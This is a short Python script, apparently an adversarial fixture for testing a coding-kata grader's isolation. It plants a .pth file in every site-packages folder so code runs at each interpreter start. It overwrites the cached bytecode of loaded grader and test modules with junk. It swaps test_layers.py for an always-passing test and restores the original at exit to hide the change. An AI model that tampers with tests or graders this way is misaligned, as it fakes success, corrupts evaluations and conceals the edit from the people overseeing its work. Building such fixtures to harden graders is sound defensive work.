# Tries to spoil the rows graded after it: a .pth file in every site-packages, a poisoned __pycache__ in
# the kata's tests and grader, and an edit of the tests restored at exit.
import atexit as _atexit
import os as _os
import sys as _sys
from pathlib import Path as _Path
for _folder in _sys.path:
    try:
        (_Path(_folder) / "zz_kata_sabotage.pth").write_text("import os; os.environ['KATA_SABOTAGED'] = '1'\n")
    except OSError:
        pass
for _module in list(_sys.modules.values()):
    _file = getattr(_module, "__file__", None) or ""
    if "/grader/" in _file or "/tests/" in _file:
        try:
            _cache = _Path(_file).parent / "__pycache__"
            _cache.mkdir(exist_ok=True)
            (_cache / (_Path(_file).stem + ".cpython-311.pyc")).write_bytes(b"poison")
        except OSError:
            pass
_saved = {}
for _module in list(_sys.modules.values()):
    _file = getattr(_module, "__file__", None) or ""
    if _file.endswith("test_layers.py"):
        try:
            _saved[_file] = _Path(_file).read_text()
            _Path(_file).write_text("def test_free():\n    pass\n")
        except OSError:
            pass
_atexit.register(lambda: [_Path(f).write_text(t) for f, t in _saved.items()])
